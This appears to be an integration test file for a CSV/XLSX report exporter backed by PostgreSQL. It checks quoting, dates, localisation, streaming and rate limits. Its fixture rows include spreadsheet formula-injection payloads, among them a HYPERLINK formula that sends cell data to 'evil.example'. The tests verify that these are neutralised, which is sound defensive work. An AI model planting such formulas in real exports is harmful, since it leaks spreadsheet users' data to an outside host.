import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type pg from 'pg';
import type { DataSource } from 'typeorm';
import { createTestDatabase } from '@academy/testing';
import { AppException } from '../../../common/app.exception.js';
import { createDataSource } from '../../../database/data-source.js';
import type { ReportColumn, ReportTable } from '../../report-table.js';
import { ReportCellError } from '../export-cells.js';
import { ExportAborted, exportReportTable, type ExportFormat } from '../report-export.js';
import { MAX_CONCURRENT_EXPORTS, ReportExportService } from '../report-export.service.js';

/**
 * The exporter against a real PostgreSQL: tables built here (the report queries have their own tests),
 * served by a bare HTTP server calling ReportExportService as the export route does.
 */

const PEOPLE_COLUMNS: ReportColumn[] = [
  { key: 'display_name', header: { en: 'Name', ru: 'Имя' }, type: 'text' },
  { key: 'unit_name', header: { en: 'Unit', ru: 'Подразделение' }, type: 'text' },
  { key: 'course_title', header: { en: 'Course', ru: 'Курс' }, type: 'text' },
  { key: 'progress_pct', header: { en: 'Progress, %', ru: 'Прогресс, %' }, type: 'percent' },
  { key: 'completed_lessons', header: { en: 'Lessons completed', ru: 'Пройдено уроков' }, type: 'integer' },
  { key: 'score', header: { en: 'Best score, %', ru: 'Лучший результат, %' }, type: 'number' },
  { key: 'due_at', header: { en: 'Due date', ru: 'Срок' }, type: 'date' },
  { key: 'completed_at', header: { en: 'Completed at', ru: 'Завершён' }, type: 'datetime' },
];

/** Names as CSV imports bring them: Cyrillic, quotes and commas, line breaks, formula-like starts. */
const PEOPLE_SQL = `
  SELECT * FROM (VALUES
    (1, 'Алиев Рашад Ильхам оглы', 'Бакинская морская таможня', 'Основы Гармонизированной системы',
        87.5::numeric, 7::bigint, 91.25::real, DATE '2026-03-01', TIMESTAMPTZ '2026-02-27 10:15:30.789+04'),
    (2, '=HYPERLINK("http://evil.example/?"&A1,"Click")', 'Unit "A", north', 'Kyoto, revised',
        0::numeric, 0::bigint, NULL::real, NULL::date, NULL::timestamptz),
    (3, '+994 50 123 45 67', E'Line one\\nline two', '-2+3', 100::numeric, 12::bigint, 100::real,
        DATE '2026-12-31', TIMESTAMPTZ '2026-12-31 23:59:59+00'),
    (4, '@SUM(A1:A9)', E'\\tTabbed', E'\\rReturn', 33.3::numeric, 2::bigint, 0::real, DATE '2026-01-05',
        TIMESTAMPTZ '2026-01-05 00:00:00+00'),
    (5, 'O''Brien - Smith', NULL, 'Таможенная стоимость', 50::numeric, 5::bigint, 66.7::real, NULL::date, NULL::timestamptz)
  ) AS t(n, display_name, unit_name, course_title, progress_pct, completed_lessons, score, due_at, completed_at)
  ORDER BY n`;

function peopleTable(locale: 'en' | 'ru'): ReportTable {
  return { name: 'people', locale, columns: PEOPLE_COLUMNS, sql: PEOPLE_SQL, params: [] };
}

/** 1..count in order; the row `gateAt` waits for a shared transaction-level advisory lock on `gateKey`. */
function seriesTable(count: number, gate?: { at: number; key: number }): ReportTable {
  const gateSql = gate
    ? `CASE WHEN g = ${gate.at} THEN length(pg_advisory_xact_lock_shared(${gate.key})::text) ELSE 0 END`
    : '0';
  return {
    name: 'series',
    locale: 'en',
    columns: [
      { key: 'n', header: { en: 'n', ru: 'n' }, type: 'integer' },
      { key: 'label', header: { en: 'Label', ru: 'Метка' }, type: 'text' },
      { key: 'day', header: { en: 'Day', ru: 'День' }, type: 'date' },
    ],
    sql: `SELECT g AS n, 'Офицер ' || g AS label, DATE '2026-01-01' + (g % 365) AS day, ${gateSql} AS gate
            FROM generate_series(1, $1::int) AS g ORDER BY g`,
    params: [count],
  };
}

let database: { url: string; drop(): Promise<void> };
let dataSource: DataSource;
let pool: pg.Pool;
let service: ReportExportService;
let server: http.Server;
let base: string;
const tables = new Map<string, ReportTable>();
const NOW = new Date('2026-11-23T16:00:00Z');

beforeAll(async () => {
  database = await createTestDatabase();
  dataSource = createDataSource(database.url, { extra: { max: 8 } });
  await dataSource.initialize();
  pool = (dataSource.driver as unknown as { master: pg.Pool }).master;
  service = new ReportExportService(dataSource);
  server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://localhost');
    const table = tables.get(url.pathname.slice(1));
    const format = (url.searchParams.get('format') ?? 'csv') as ExportFormat;
    if (!table) {
      res.writeHead(404).end();
      return;
    }
    service.send(table, format, res, NOW).catch((error: unknown) => {
      res.writeHead(error instanceof AppException ? 429 : 500, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: error instanceof AppException ? error.code : String(error) }));
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  server.close();
  await dataSource.destroy();
  await database.drop();
});

interface Download {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: Buffer;
}

/** GETs a download; resolves once it ended and the export's connection went back to the pool. */
async function download(path: string): Promise<Download> {
  const released = once(pool, 'release');
  const res = await get(path);
  await released;
  return res;
}

function get(path: string): Promise<Download> {
  return new Promise((resolve, reject) => {
    http
      .get(`${base}${path}`, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }),
        );
        res.on('error', reject);
      })
      .on('error', reject);
  });
}

function serve(key: string, table: ReportTable): string {
  tables.set(key, table);
  return `/${key}`;
}

/** Waits (release by release) until at most `busy` clients of the pool are checked out. */
async function checkedOutAtMost(busy: number): Promise<void> {
  while (pool.totalCount - pool.idleCount > busy) await once(pool, 'release');
}

/** No client of the pool is checked out, none is waiting. */
function poolIsIdle(): boolean {
  return pool.totalCount === pool.idleCount && pool.waitingCount === 0;
}

async function readXlsx(body: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook.worksheets[0];
}

describe('CSV', () => {
  it('writes UTF-8 with a BOM, CRLF, English headers, RFC 4180 quoting and ISO 8601 dates', async () => {
    const res = await download(`${serve('people-en', peopleTable('en'))}?format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="people-2026-11-23.csv"');
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = res.body.toString('utf8');
    expect(
      text.startsWith('\uFEFFName,Unit,Course,"Progress, %",Lessons completed,"Best score, %",Due date,'),
    ).toBe(true);
    // Every record ends with CRLF; the only bare LF is inside the quoted cell that contains it.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '').split('\n')).toHaveLength(2);

    const rows = parse(res.body, { bom: true, relax_column_count: false }) as string[][];
    expect(rows).toEqual([
      [
        'Name',
        'Unit',
        'Course',
        'Progress, %',
        'Lessons completed',
        'Best score, %',
        'Due date',
        'Completed at',
      ],
      [
        'Алиев Рашад Ильхам оглы',
        'Бакинская морская таможня',
        'Основы Гармонизированной системы',
        '87.5',
        '7',
        '91.25',
        '2026-03-01',
        '2026-02-27T06:15:30Z',
      ],
      [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        'Unit "A", north',
        'Kyoto, revised',
        '0',
        '0',
        '',
        '',
        '',
      ],
      [
        "'+994 50 123 45 67",
        'Line one\nline two',
        "'-2+3",
        '100',
        '12',
        '100',
        '2026-12-31',
        '2026-12-31T23:59:59Z',
      ],
      ["'@SUM(A1:A9)", "'\tTabbed", "'\rReturn", '33.3', '2', '0', '2026-01-05', '2026-01-05T00:00:00Z'],
      ["O'Brien - Smith", '', 'Таможенная стоимость', '50', '5', '66.7', '', ''],
    ]);
    // No markup or JSON anywhere.
    expect(text).not.toMatch(/[{}[\]]|<\/?[a-z]/i);
    expect(poolIsIdle()).toBe(true);
  });

  it('writes Russian headers for a Russian table, Cyrillic intact', async () => {
    const res = await download(`${serve('people-ru', peopleTable('ru'))}?format=csv`);
    const rows = parse(res.body, { bom: true }) as string[][];
    expect(rows[0]).toEqual([
      'Имя',
      'Подразделение',
      'Курс',
      'Прогресс, %',
      'Пройдено уроков',
      'Лучший результат, %',
      'Срок',
      'Завершён',
    ]);
    expect(rows[5][2]).toBe('Таможенная стоимость');
  });

  it('writes the header row alone for an empty table', async () => {
    const table = { ...seriesTable(0), name: 'empty' };
    const res = await download(`${serve('empty', table)}?format=csv`);
    expect(res.status).toBe(200);
    expect(res.body.toString('utf8')).toBe('\uFEFFn,Label,Day\r\n');
  });
});

describe('CSV through COPY', () => {
  /** Collects what an export writes. */
  function collector(): { out: Writable; text: () => string } {
    const chunks: Buffer[] = [];
    const out = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        chunks.push(chunk);
        callback();
      },
    });
    return { out, text: () => Buffer.concat(chunks).toString('utf8') };
  }

  it('inlines the parameters as the bound ones would be read (text with quotes, arrays, dates, numbers)', async () => {
    const table: ReportTable = {
      name: 'params',
      locale: 'en',
      columns: [
        { key: 'label', header: { en: 'Label', ru: 'Метка' }, type: 'text' },
        { key: 'n', header: { en: 'n', ru: 'n' }, type: 'integer' },
        { key: 'at', header: { en: 'At', ru: 'Когда' }, type: 'datetime' },
      ],
      sql: `SELECT $1 || ' ' || array_to_string($2::text[], '|') AS label, $3::int + 1 AS n,
                   $4::timestamptz AS at, $5::text AS unused
              FROM generate_series(1, 2) ORDER BY 1`,
      params: [`O'Brien "\\"`, ['a,b', 'c"d', null], 41, new Date('2026-11-23T16:00:00.999Z'), '$1'],
    };
    const { out, text } = collector();
    expect((await exportReportTable(pool, table, 'csv', out)).rows).toBe(2);
    const row = `"O'Brien ""\\"" a,b|c""d",42,2026-11-23T16:00:00Z\r\n`;
    expect(text()).toBe(`\uFEFFLabel,n,At\r\n${row}${row}`);
    expect(poolIsIdle()).toBe(true);
  });

  it('writes UTC whatever the time zone of the pooled session', async () => {
    const table: ReportTable = {
      name: 'zone',
      locale: 'en',
      columns: [
        { key: 'at', header: { en: 'At', ru: 'Когда' }, type: 'datetime' },
        { key: 'day', header: { en: 'Day', ru: 'День' }, type: 'date' },
        { key: 'local', header: { en: 'Local', ru: 'Местное' }, type: 'datetime' },
      ],
      sql: `SELECT TIMESTAMPTZ '2026-11-23 02:30:00+04' AS at, TIMESTAMPTZ '2026-11-23 02:30:00+04' AS day,
                   TIMESTAMP '2026-11-23 02:30:00' AS local`,
      params: [],
    };
    const client = await pool.connect();
    await client.query(`SET TimeZone = 'Asia/Baku'`);
    client.release();
    const { out, text } = collector();
    await exportReportTable(pool, table, 'csv', out);
    expect(text()).toBe('\uFEFFAt,Day,Local\r\n2026-11-22T22:30:00Z,2026-11-22,2026-11-23T02:30:00Z\r\n');
    await pool.query(`RESET TimeZone`);
  });

  it('writes empty text as an empty field, like a missing value', async () => {
    const table: ReportTable = {
      name: 'empty-text',
      locale: 'en',
      columns: [
        { key: 'a', header: { en: 'A', ru: 'A' }, type: 'text' },
        { key: 'b', header: { en: 'B', ru: 'B' }, type: 'text' },
        { key: 'c', header: { en: 'C', ru: 'C' }, type: 'text' },
      ],
      sql: `SELECT ''::text AS a, NULL::text AS b, ' '::text AS c`,
      params: [],
    };
    const { out, text } = collector();
    await exportReportTable(pool, table, 'csv', out);
    expect(text()).toBe('\uFEFFA,B,C\r\n,, \r\n');
  });

  it('stops a COPY that is still computing when the reader leaves before the first byte', async () => {
    const out = new Writable({ write: (_chunk, _encoding, callback) => callback() });
    const table: ReportTable = {
      ...seriesTable(1),
      // The only row would come after 20 s of work: unless the query is cancelled, stopping it times out
      // (CLOSE_TIMEOUT_MS) and the connection is dropped.
      sql: `SELECT 1 AS n, 'x' AS label, DATE '2026-01-01' AS day FROM pg_sleep(20)`,
      params: [],
    };
    const released = once(pool, 'release');
    const exported = exportReportTable(pool, table, 'csv', out);
    setImmediate(() => out.destroy());
    await expect(exported).rejects.toThrow(ExportAborted);
    const [error] = (await released) as [Error | undefined];
    expect(error).toBeUndefined();
    expect(poolIsIdle()).toBe(true);
  });
});

describe('XLSX', () => {
  it('writes a workbook with English headers, numbers as numbers, ISO-formatted dates and no formulas', async () => {
    const res = await download(`${serve('people-xlsx', peopleTable('en'))}?format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toBe('attachment; filename="people-2026-11-23.xlsx"');
    const sheet = await readXlsx(res.body);
    expect(sheet.name).toBe('people');
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Name',
      'Unit',
      'Course',
      'Progress, %',
      'Lessons completed',
      'Best score, %',
      'Due date',
      'Completed at',
    ]);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.rowCount).toBe(6);

    const first = sheet.getRow(2);
    expect(first.getCell(1).value).toBe('Алиев Рашад Ильхам оглы');
    expect(first.getCell(4).value).toBe(87.5);
    expect(first.getCell(5).value).toBe(7);
    expect(first.getCell(6).value).toBe(91.25);
    expect(first.getCell(7).value).toEqual(new Date('2026-03-01T00:00:00Z'));
    expect(first.getCell(7).numFmt).toBe('yyyy-mm-dd');
    expect(first.getCell(8).value).toEqual(new Date('2026-02-27T06:15:30Z'));
    expect(first.getCell(8).numFmt).toBe('yyyy-mm-dd"T"hh:mm:ss"Z"');

    // Formula-like text stays text: a string cell, never a formula (and no leading quote needed).
    const injected = sheet.getRow(3).getCell(1);
    expect(injected.type).toBe(ExcelJS.ValueType.String);
    expect(injected.value).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(sheet.getRow(4).getCell(1).value).toBe('+994 50 123 45 67');
    expect(sheet.getRow(4).getCell(2).value).toBe('Line one\nline two');
    expect(sheet.getRow(5).getCell(1).value).toBe('@SUM(A1:A9)');
    expect(sheet.getRow(3).getCell(6).value).toBeNull();
    expect(sheet.getRow(6).getCell(2).value).toBeNull();
    for (let r = 2; r <= 6; r++) {
      sheet.getRow(r).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    }
    expect(poolIsIdle()).toBe(true);
  });

  it('writes Russian headers and sheet rows for 20,000 rows', async () => {
    const table: ReportTable = { ...seriesTable(20_000), locale: 'ru' };
    const res = await download(`${serve('series-xlsx', table)}?format=xlsx`);
    const sheet = await readXlsx(res.body);
    expect(sheet.getRow(1).values).toEqual([undefined, 'n', 'Метка', 'День']);
    expect(sheet.rowCount).toBe(20_001);
    expect(sheet.getRow(20_001).values).toEqual([
      undefined,
      20_000,
      'Офицер 20000',
      new Date(Date.UTC(2026, 0, 1) + (20_000 % 365) * 86_400_000),
    ]);
  });
});

describe('cells that are a bug in the table', () => {
  it.each(['csv', 'xlsx'] as const)('refuses JSON in a %s cell and drops the connection', async (format) => {
    const table: ReportTable = {
      name: 'json',
      locale: 'en',
      columns: [{ key: 'title', header: { en: 'Title', ru: 'Название' }, type: 'text' }],
      sql: `SELECT '{"en": "Course", "ru": "Курс"}'::jsonb AS title`,
      params: [],
    };
    const sink = new Writable({ write: (_chunk, _encoding, callback) => callback() });
    const released = once(pool, 'release');
    await expect(exportReportTable(pool, table, format, sink)).rejects.toThrow(ReportCellError);
    const [error] = (await released) as [Error | undefined];
    expect(error).toBeInstanceOf(ReportCellError); // a failed export's connection is not reused
    expect(poolIsIdle()).toBe(true);
  });

  it('refuses text in a number column', async () => {
    const table: ReportTable = {
      name: 'bad-number',
      locale: 'en',
      columns: [{ key: 'n', header: { en: 'n', ru: 'n' }, type: 'integer' }],
      sql: `SELECT 'twelve' AS n`,
      params: [],
    };
    const sink = new Writable({ write: (_chunk, _encoding, callback) => callback() });
    await expect(exportReportTable(pool, table, 'csv', sink)).rejects.toThrow(/not a number/);
  });
});

describe('errors and limits', () => {
  it('rejects before the first byte when the query fails, leaving the response to the caller', async () => {
    const table: ReportTable = { ...seriesTable(1), sql: 'SELECT 1 / 0 AS n', params: [] };
    const res = await download(`${serve('division', table)}?format=csv`);
    expect(res.status).toBe(500);
    expect(JSON.parse(res.body.toString('utf8'))).toEqual({
      error: expect.stringMatching(/division by zero/),
    });
    expect(poolIsIdle()).toBe(true);
  });

  it(`answers RATE_LIMITED beyond ${MAX_CONCURRENT_EXPORTS} exports at once, then serves again`, async () => {
    const gateKey = 7_310_002;
    const gate = await pool.connect();
    await gate.query('SELECT pg_advisory_lock($1)', [gateKey]);
    try {
      const path = serve('gated', seriesTable(10, { at: 1, key: gateKey }));
      const blocked = Array.from({ length: MAX_CONCURRENT_EXPORTS }, () => get(`${path}?format=csv`));
      // All of them are waiting on the lock (so all are running) before the next one is asked for.
      await waitFor(async () => (await lockWaiters(gate, gateKey)) === MAX_CONCURRENT_EXPORTS);
      const refused = await get(`${path}?format=csv`);
      expect(refused.status).toBe(429);
      expect(JSON.parse(refused.body.toString('utf8'))).toEqual({ error: 'RATE_LIMITED' });
      await gate.query('SELECT pg_advisory_unlock($1)', [gateKey]);
      for (const res of await Promise.all(blocked)) {
        expect(res.status).toBe(200);
        expect(parse(res.body, { bom: true })).toHaveLength(11);
      }
      expect((await download(`${path}?format=csv`)).status).toBe(200);
      // Every export's connection is back (a release can come after its response ended), `gate` aside.
      await checkedOutAtMost(1);
    } finally {
      await gate.query('SELECT pg_advisory_unlock_all()');
      gate.release();
    }
  });
});

/** Sessions waiting for the advisory lock `key`. */
async function lockWaiters(client: pg.PoolClient, key: number): Promise<number> {
  const { rows } = await client.query<{ n: number }>(
    `SELECT count(*)::int AS n FROM pg_locks WHERE locktype = 'advisory' AND objid = $1 AND NOT granted`,
    [key],
  );
  return rows[0].n;
}

/** Polls a database condition (each poll is a round trip, no timer). */
async function waitFor(condition: () => Promise<boolean>, attempts = 10_000): Promise<void> {
  for (let i = 0; i < attempts; i++) if (await condition()) return;
  throw new Error('condition not reached');
}

describe('streaming', () => {
  it('streams 200,000 rows: the client has most of them while the query is still running', async () => {
    const gateKey = 7_310_001;
    const gate = await pool.connect();
    await gate.query('SELECT pg_advisory_lock($1)', [gateKey]);
    try {
      // The query stops at row 150,000 until the lock is released: everything before it must have
      // reached the client by then, so nothing waits for the whole result.
      const path = serve('series-200k', seriesTable(200_000, { at: 150_000, key: gateKey }));
      const chunks: Buffer[] = [];
      let lines = 0;
      let reachedGate: () => void = () => undefined;
      const atGate = new Promise<void>((resolve) => (reachedGate = resolve));
      const released = once(pool, 'release');
      const done = new Promise<number>((resolve, reject) => {
        http
          .get(`${base}${path}?format=csv`, (res) => {
            expect(res.statusCode).toBe(200);
            res.on('data', (chunk: Buffer) => {
              chunks.push(chunk);
              for (let i = chunk.indexOf(10); i !== -1; i = chunk.indexOf(10, i + 1)) lines++;
              if (lines >= 1 + 148_000) reachedGate();
            });
            res.on('end', () => resolve(res.statusCode ?? 0));
            res.on('error', reject);
          })
          .on('error', reject);
      });
      await atGate;
      // 148,000 rows are here while the export's query has not finished: it is blocked on the lock at row
      // 150,000 (COPY sends rows as they come; at most PostgreSQL's last unflushed 8 kB are held back).
      await waitFor(async () => (await lockWaiters(gate, gateKey)) === 1);
      expect(lines).toBeLessThan(1 + 150_000);
      await gate.query('SELECT pg_advisory_unlock($1)', [gateKey]);
      expect(await done).toBe(200);
      const rows = parse(Buffer.concat(chunks), { bom: true }) as string[][];
      expect(rows).toHaveLength(200_001);
      expect(rows[1]).toEqual(['1', 'Офицер 1', '2026-01-02']);
      const lastDay = new Date(Date.UTC(2026, 0, 1) + (200_000 % 365) * 86_400_000)
        .toISOString()
        .slice(0, 10);
      expect(rows[200_000]).toEqual(['200000', 'Офицер 200000', lastDay]);
      expect(rows.every((row, i) => i === 0 || row[0] === String(i))).toBe(true);
      await released;
      expect(pool.totalCount - pool.idleCount).toBe(1); // only `gate` is checked out
    } finally {
      await gate.query('SELECT pg_advisory_unlock_all()');
      gate.release();
    }
  });

  it('respects backpressure: 500,000 rows into a slow reader never pile up in front of it', async () => {
    // A reader that takes one chunk per event-loop turn: the exporter must wait for it to drain.
    let bytes = 0;
    let mostBuffered = 0;
    const reader = new Writable({
      highWaterMark: 64 * 1024,
      write(chunk: Buffer, _encoding, callback) {
        bytes += chunk.length;
        setImmediate(callback);
      },
    });
    const write = reader.write.bind(reader);
    reader.write = ((...args: Parameters<Writable['write']>) => {
      const ok = write(...args);
      mostBuffered = Math.max(mostBuffered, reader.writableLength);
      return ok;
    }) as Writable['write'];
    const result = await exportReportTable(pool, seriesTable(500_000), 'csv', reader);
    expect(result.rows).toBe(500_000);
    expect(bytes).toBeGreaterThan(15_000_000);
    // Never more than about one batch (2,000 rows, ~70 kB) waits in front of the reader.
    expect(mostBuffered).toBeLessThan(256 * 1024);
    expect(poolIsIdle()).toBe(true);
  });
});

describe('a reader that leaves mid-download', () => {
  it.each(['csv', 'xlsx'] as const)(
    '%s: closes the cursor and returns the connection to the pool',
    async (format) => {
      const path = serve(`abort-${format}`, seriesTable(1_000_000));
      const released = once(pool, 'release');
      await new Promise<void>((resolve, reject) => {
        const req = http.get(`${base}${path}?format=${format}`, (res) => {
          res.once('data', () => {
            req.destroy();
            resolve();
          });
        });
        req.on('error', (error: NodeJS.ErrnoException) => {
          if (error.code !== 'ECONNRESET') reject(error);
        });
      });
      const [error] = (await released) as [Error | undefined];
      expect(error).toBeUndefined(); // returned in good order, not dropped
      expect(poolIsIdle()).toBe(true);
      // The connection is usable: the export's query is gone from the server, the next query runs.
      const { rows } = await pool.query<{ n: number }>(
        `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND query LIKE '%generate_series%' AND state <> 'idle' AND pid <> pg_backend_pid()`,
      );
      expect(rows[0].n).toBe(0);
    },
  );

  it('rejects with ExportAborted when the output is already closed', async () => {
    const out = new Writable({ write: (_chunk, _encoding, callback) => callback() });
    out.destroy();
    await expect(exportReportTable(pool, seriesTable(10), 'csv', out)).rejects.toThrow(ExportAborted);
    expect(poolIsIdle()).toBe(true);
  });
});
